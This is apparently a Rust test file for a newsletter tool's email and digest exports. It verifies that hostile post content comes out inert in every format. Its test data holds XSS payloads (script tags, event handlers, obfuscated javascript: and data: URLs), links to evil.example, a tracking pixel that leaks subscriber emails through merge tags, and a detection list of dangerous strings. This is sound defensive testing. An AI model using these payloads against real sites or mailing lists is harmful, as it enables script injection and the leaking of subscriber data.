//! Hostile post content through every newsletter export (issue #9): raw
//! HTML, event handlers, `javascript:`/`data:`/protocol-relative URLs and
//! email services' merge tags in text, alt text, titles, teasers, URLs, a
//! digest's intro and subject; through `post_email` and `digest_email` for
//! every ESP preset, in the HTML, the plain text and the `.eml`, and through
//! the CLI. Nothing may run, and the only live merge tags are the footer's.

use chrono::NaiveDate;
use postdesk::export::email::{digest_email, post_email, Digest, EmailOptions, EmailParts, Esp};
use postdesk::model::{NewPost, Post, Status};
use postdesk::store::Store;

use super::{attribute_values, date, library, parse};
use crate::common::{cli, ok, stderr, Library};

/// Every payload class in one body.
const BODY: &str = r#"Hi *|FNAME|*, your address is \*|EMAIL|\*, {{ subscriber.email }} {% if x %}y{% endif %} {# c #} and \*&#124;LNAME&#124;\*.

In code: `*|EMAIL|*` and `{{ subscriber.email }}`.

```
*|UNSUB|* {% for s in subscribers %}{{ s.email }}{% endfor %}
```

<script>alert('s')</script>

<img src=x onerror="alert('i')"> <p onclick="alert('c')">para</p> <svg onload=alert(1)></svg>

[js](javascript:alert('j')) <a href="JaVaScRiPt:alert('k')">k</a> <a href="java&#x09;script:alert('l')">tab</a>

[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [proto](//evil.example/x) ![pr](//evil.example/p.png)

![\*|FNAME|\* alt {{ name }}](https://tracker.example/p.gif?u=*|URL:EMAIL|*&b={{subscriber.email}} "title *|LNAME|* {% x %}")

[link](https://x.example/?e=*|EMAIL|* "t {{ email }}") and <https://x.example/{{email}}>
"#;

const TITLE: &str = "News for *|FNAME|* and {{ subscriber.first_name }}";

/// The merge tags a service would substitute in `s`: from each opening
/// delimiter to its closing one (or the end).
fn live_merge_tags(s: &str) -> Vec<String> {
    let mut found = Vec::new();
    for (open, close) in [("*|", "|*"), ("{{", "}}"), ("{%", "%}"), ("{#", "#}")] {
        for (at, _) in s.match_indices(open) {
            let rest = &s[at..];
            let end = rest[open.len()..]
                .find(close)
                .map_or(rest.len(), |i| i + open.len() + close.len());
            found.push(rest[..end].to_string());
        }
    }
    found.sort();
    found
}

/// The footer's own placeholders for `esp`, as the HTML and the text hold them.
fn footer_tags(esp: Esp, html: bool) -> Vec<String> {
    let mut tags: Vec<String> = match esp {
        Esp::Mailchimp if html => vec!["*|ARCHIVE|*", "*|HTML:LIST_ADDRESS_HTML|*", "*|UNSUB|*"],
        Esp::Mailchimp => vec!["*|ARCHIVE|*", "*|LIST:ADDRESS|*", "*|UNSUB|*"],
        Esp::Buttondown => vec!["{{ email_url }}", "{{ unsubscribe_url }}"],
        Esp::Plain => vec![],
    }
    .into_iter()
    .map(String::from)
    .collect();
    tags.sort();
    tags
}

/// Attribute names starting with `on` in any tag of `html`.
fn event_handlers(html: &str) -> Vec<String> {
    html.split('<')
        .skip(1)
        .filter(|t| t.starts_with(|c: char| c.is_ascii_alphabetic()))
        .filter_map(|t| t.split('>').next())
        .flat_map(|t| t.split_ascii_whitespace().skip(1))
        .filter(|a| a.to_ascii_lowercase().starts_with("on") && a.contains('='))
        .map(String::from)
        .collect()
}

/// No script, no handler, no dangerous URL, and the only live merge tags are
/// the footer's, in one part of one export.
fn assert_safe(what: &str, out: &str, esp: Esp, html: bool) {
    let lower = out.to_ascii_lowercase();
    for bad in ["<script", "javascript:", "data:text", "<svg", "alert("] {
        assert!(!lower.contains(bad), "{what}: {bad} in {out}");
    }
    assert_eq!(event_handlers(out), Vec::<String>::new(), "{what}");
    for url in attribute_values(out, "href")
        .into_iter()
        .chain(attribute_values(out, "src"))
    {
        assert!(!url.starts_with("//"), "{what}: protocol-relative {url}");
    }
    // Both the source and its decoded attribute values.
    assert_eq!(live_merge_tags(out), footer_tags(esp, html), "{what}");
    for value in attribute_values(out, "alt")
        .into_iter()
        .chain(attribute_values(out, "title"))
    {
        assert_eq!(live_merge_tags(&value), Vec::<String>::new(), "{what}");
    }
}

/// The HTML, the text and the `.eml`'s decoded parts and subject, all safe;
/// the text still reads the same once its invisible joiners are removed.
fn assert_every_part_safe(what: &str, parts: &EmailParts, esp: Esp) {
    assert_safe(&format!("{what} html"), &parts.html, esp, true);
    assert_safe(&format!("{what} text"), &parts.text, esp, false);
    assert_eq!(live_merge_tags(&parts.subject), Vec::<String>::new());
    assert_eq!(live_merge_tags(&parts.preheader), Vec::<String>::new());
    let eml = parts.to_eml(date()).expect("eml");
    let message = parse(&eml);
    let subject = message.subject().expect("subject");
    assert_eq!(live_merge_tags(subject), Vec::<String>::new(), "{subject}");
    assert_safe(
        &format!("{what} eml html"),
        &message.body_html(0).expect("html"),
        esp,
        true,
    );
    assert_safe(
        &format!("{what} eml text"),
        &message.body_text(0).expect("text"),
        esp,
        false,
    );
}

fn hostile_post(store: &mut Store) -> Post {
    store
        .create_post(NewPost {
            title: TITLE.into(),
            summary: "Teaser for *|FNAME|* {{ name }}".into(),
            body: BODY.into(),
            status: Status::Published,
            ..NewPost::default()
        })
        .expect("post")
}

fn options(store: &Store, esp: Esp) -> EmailOptions {
    let mut options = EmailOptions::load(store).expect("options");
    options.settings.esp = esp;
    options
}

#[test]
fn a_hostile_post_email_is_inert_for_every_esp_and_its_footer_stays_live() {
    let (_lib, mut store) = library(&[
        ("org.address", "1 Rue Test, Montréal"),
        ("newsletter.unsubscribe_url", "https://velo.example.org/u"),
    ]);
    let post = hostile_post(&mut store);
    for esp in Esp::ALL {
        let parts = post_email(&store, &post, &options(&store, esp)).expect("email");
        assert_every_part_safe(&format!("post {esp}"), &parts, esp);

        // Reads the same: only invisible joiners were added to the text.
        // Compared without white space, since the text is wrapped at 78.
        // (Markdown reads `*|FNAME|*` as emphasis; escaped, it stays.)
        let compact: String = parts
            .text
            .replace('\u{200D}', "")
            .split_whitespace()
            .collect();
        for shown in [
            "your address is *|EMAIL|*",
            "{{ subscriber.email }} {% if x %}y{% endif %} {# c #}",
            "and *|LNAME|*.",
            "In code: *|EMAIL|* and {{ subscriber.email }}.",
            "*|UNSUB|* {% for s in subscribers %}{{ s.email }}{% endfor %}",
            "[Image: *|FNAME|* alt {{ name }}]",
        ] {
            let shown: String = shown.split_whitespace().collect();
            assert!(compact.contains(&shown), "{shown} in {}", parts.text);
        }
        assert_eq!(parts.subject.replace('\u{200D}', ""), TITLE);
        assert!(
            parts.html.contains(
                "src=\"https://tracker.example/p.gif?u=*%7CURL:EMAIL%7C*&amp;b=%7B%7Bsubscriber.email%7D%7D\""
            ),
            "URLs are percent-encoded: {}",
            parts.html
        );
        assert!(parts
            .html
            .contains("href=\"https://x.example/?e=*%7CEMAIL%7C*\""));

        // The tracking pixel is named; the site's own images are not.
        let remote: Vec<String> = parts
            .warnings
            .iter()
            .map(ToString::to_string)
            .filter(|w| w.contains("server other than the site's"))
            .collect();
        assert!(
            remote.iter().any(|w| w.contains("tracker.example")),
            "{:?}",
            parts.warnings
        );
        assert!(remote.iter().all(|w| !w.contains("velo.example.org")));
    }
}

#[test]
fn a_hostile_digest_is_inert_for_every_esp_and_its_footer_stays_live() {
    let (_lib, mut store) = library(&[]);
    let posts = vec![
        hostile_post(&mut store),
        store
            .create_post(NewPost {
                title: "Plain *|LNAME|*".into(),
                body: "First paragraph {% raw %} *|EMAIL|*.\n\nMore.".into(),
                status: Status::Published,
                ..NewPost::default()
            })
            .expect("post"),
    ];
    for esp in Esp::ALL {
        let digest = Digest {
            posts: posts.clone(),
            intro: BODY.replace(
                "![pr](//evil.example/p.png)",
                "![intro pixel](https://pixel.example/o.gif?e={{subscriber.email}})",
            ),
            subject: Some("March for *|FNAME|* {{ x }}".into()),
            lang: None,
            date: NaiveDate::from_ymd_opt(2026, 3, 5).expect("date"),
        };
        let parts = digest_email(&store, &digest, &options(&store, esp)).expect("digest");
        assert_every_part_safe(&format!("digest {esp}"), &parts, esp);
        assert_eq!(
            parts.subject.replace('\u{200D}', ""),
            "March for *|FNAME|* {{ x }}"
        );
        let visible = parts.text.replace('\u{200D}', "");
        assert!(
            visible.contains("Teaser for *|FNAME|* {{ name }}"),
            "{visible}"
        );
        assert!(
            parts
                .warnings
                .iter()
                .any(|w| w.to_string().contains("pixel.example")),
            "{:?}",
            parts.warnings
        );
    }
}

#[test]
fn the_cli_writes_inert_exports_and_names_remote_image_hosts_on_stderr() {
    let lib = Library::new();
    ok(
        &lib.path,
        &["config", "set", "site.base_url", "https://velo.example.org"],
    );
    ok(&lib.path, &["config", "set", "newsletter.esp", "mailchimp"]);
    let dir = lib.dir.path();
    let body = dir.join("body.md");
    std::fs::write(&body, BODY).expect("body");
    let slug = ok(
        &lib.path,
        &[
            "new",
            "--title",
            TITLE,
            "--body-file",
            &body.to_string_lossy(),
            "--status",
            "published",
        ],
    );
    let slug = slug.trim();
    for (command, format) in [
        ("email", "html"),
        ("email", "text"),
        ("email", "eml"),
        ("digest", "html"),
        ("digest", "text"),
        ("digest", "eml"),
    ] {
        let out = dir.join(format!("{command}.{format}"));
        let out_arg = out.to_string_lossy().into_owned();
        let body_arg = body.to_string_lossy().into_owned();
        let mut args = vec![
            "export", command, slug, "--format", format, "--out", &out_arg,
        ];
        if command == "digest" {
            args.extend(["--intro-file", &body_arg, "--subject", "Hi *|FNAME|*"]);
        }
        let o = cli(&lib.path, &args, None);
        assert!(o.status.success(), "{command} {format}: {}", stderr(&o));
        let err = stderr(&o);
        assert!(
            err.contains("warning") && err.contains("tracker.example"),
            "{command} {format}: {err}"
        );
        let bytes = std::fs::read(&out).expect("export");
        let what = format!("cli {command} {format}");
        match format {
            "html" => assert_safe(
                &what,
                &String::from_utf8_lossy(&bytes),
                Esp::Mailchimp,
                true,
            ),
            "text" => assert_safe(
                &what,
                &String::from_utf8_lossy(&bytes),
                Esp::Mailchimp,
                false,
            ),
            _ => {
                let message = parse(&bytes);
                assert_eq!(
                    live_merge_tags(message.subject().unwrap_or_default()),
                    Vec::<String>::new()
                );
                assert_safe(
                    &what,
                    &message.body_html(0).expect("html"),
                    Esp::Mailchimp,
                    true,
                );
                assert_safe(
                    &what,
                    &message.body_text(0).expect("text"),
                    Esp::Mailchimp,
                    false,
                );
            }
        }
    }
}
